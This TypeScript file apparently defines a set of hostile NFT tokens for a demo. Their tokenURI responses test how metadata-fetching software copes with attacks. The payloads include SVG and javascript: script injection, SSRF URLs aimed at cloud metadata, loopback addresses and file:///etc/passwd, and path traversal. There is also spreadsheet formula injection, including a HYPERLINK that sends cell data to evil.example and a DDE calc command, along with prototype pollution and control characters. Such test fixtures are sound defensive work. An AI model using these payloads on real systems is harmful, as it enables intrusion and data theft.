/** The CIDv1 of the hostile documents on the demo's gateway. */
export const hostileFolderCid = "bafybeiffrgp2jemtxekg7lowty2nhdujb2n7qwkvljobyvp2acq2ghe5fe";

/** The responses of `tokenURI`, in the order of the contract's enum. */
const responses = ["uri", "long", "revert", "endless", "noText"] as const;

/** A token of the hostile collection. */
export interface HostileToken {
  /** The kind of attack, or "harmless". */
  readonly kind: string;
  readonly response: (typeof responses)[number];
  readonly uri: string;
  /** The number of characters appended to the URI. */
  readonly length: number;
}

const json = (document: unknown): string => `data:application/json;base64,${Buffer.from(JSON.stringify(document)).toString("base64")}`;
const plain = (text: string): string => `data:application/json,${encodeURIComponent(text)}`;
const createToken = (kind: string, uri: string, response: HostileToken["response"] = "uri", length = 0): HostileToken => ({
  kind,
  response,
  uri,
  length,
});
const onGateway = (kind: string, path = kind): HostileToken => createToken(kind, `ipfs://${hostileFolderCid}/${path}`);

const scriptedPicture =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script><foreignObject><iframe src="https://evil.example/"/></foreignObject></svg>';
const page = "<!doctype html><html><body><script>alert(document.domain)</script></body></html>";

const attacks: readonly HostileToken[] = [
  onGateway("huge"),
  onGateway("slow"),
  onGateway("redirect-to-loopback"),
  onGateway("redirect-to-link-local"),
  onGateway("redirect-loop"),
  onGateway("compressed-bomb"),
  onGateway("deeply-nested"),
  onGateway("many-attributes"),
  onGateway("page"),
  onGateway("broken"),
  onGateway("missing", "nowhere"),
  onGateway("path-out-of-the-folder", "../../private"),
  createToken("link-local", "http://169.254.169.254/latest/meta-data/"),
  createToken("loopback", "https://127.0.0.1/private.json"),
  createToken("loopback-by-name", "https://localhost/private.json"),
  createToken("loopback-as-number", "http://2130706433/private.json"),
  createToken("loopback-in-ipv6", "http://[::ffff:127.0.0.1]/private.json"),
  createToken("file", "file:///etc/passwd"),
  createToken(
    "script-in-picture",
    json({ name: "Scripted", image: `data:image/svg+xml;base64,${Buffer.from(scriptedPicture).toString("base64")}` }),
  ),
  createToken("script-in-plain-picture", json({ name: "Scripted too", image: `data:image/svg+xml;utf8,${scriptedPicture}` })),
  createToken(
    "javascript-links",
    json({
      name: "Linked",
      image: "javascript:alert(1)",
      animation_url: " JaVaScRiPt:alert(2)",
      external_url: "data:text/html,<script>alert(3)</script>",
    }),
  ),
  createToken("page-as-document", `data:text/html,${encodeURIComponent(page)}`),
  createToken(
    "formula",
    json({
      name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      description: "+1+1",
      attributes: [
        { trait_type: "=1+1", value: "@SUM(1+1)" },
        { trait_type: "-2", value: "\t=cmd|' /C calc'!A0" },
      ],
    }),
  ),
  createToken(
    "control-characters",
    json({
      name: "\u202egnp.tnecnni\u202c \u2066\u200b\u001b[31mred\u0007\u0000 end",
      description: "a\u0000b",
      attributes: [{ trait_type: "\u202eedis", value: "\u0000" }],
    }),
  ),
  createToken("half-characters", plain('{"name":"\\ud800 alone","attributes":[{"trait_type":"\\udc00","value":"\\ud83d"}]}')),
  createToken(
    "absurd-attributes",
    plain(
      '{"name":"Absurd","attributes":[{"trait_type":"__proto__","value":"constructor"},{"trait_type":"Number","value":1e400},{"trait_type":"Number","value":123456789012345678901234567890},' +
        '{"trait_type":"Date","display_type":"date","value":9e15},{"trait_type":"","value":""},{"trait_type":{"a":1},"value":[[]]},null,[],{"__proto__":{"polluted":true}}],"__proto__":{"polluted":true}}',
    ),
  ),
  createToken(
    "names-of-other-types",
    plain('{"name":{"toString":"x"},"description":[1],"image":7,"external_url":{},"animation_url":false}'),
  ),
  createToken("invalid-base64", "data:application/json;base64,@@@not*base64@@@"),
  createToken("invalid-utf8", `data:application/json;base64,${Buffer.from([0x7b, 0xff, 0xfe, 0x80, 0x7d]).toString("base64")}`),
  createToken("cut-off", 'data:application/json,{"name":"Cut off'),
  createToken("no-object", 'data:application/json,"just a text"'),
  createToken("empty", ""),
  createToken("long", "https://long.example/", "long", 100_000),
  createToken("reverting", "", "revert"),
  createToken("endless", "", "endless"),
  createToken("no-text", "", "noText"),
];

const attacksPerHarmless = 3;

const harmless = (number: number): HostileToken =>
  createToken("harmless", json({ name: `Sheep ${number}`, attributes: [{ trait_type: "Wool", value: ["Thick", "Thin"][number % 2] }] }));

/** The tokens of the hostile collection by id, from 1, with harmless tokens before, between and after the hostile ones. */
export const hostileTokens: readonly HostileToken[] = attacks.flatMap((token, index) => {
  const number = Math.floor(index / attacksPerHarmless) + 1;
  const before = index % attacksPerHarmless === 0 ? [harmless(number)] : [];
  return index === attacks.length - 1 ? [...before, token, harmless(number + 1)] : [...before, token];
});

/** Returns the value of the contract's enum for a kind of response. */
export const responseNumber = (response: HostileToken["response"]): number => responses.indexOf(response);
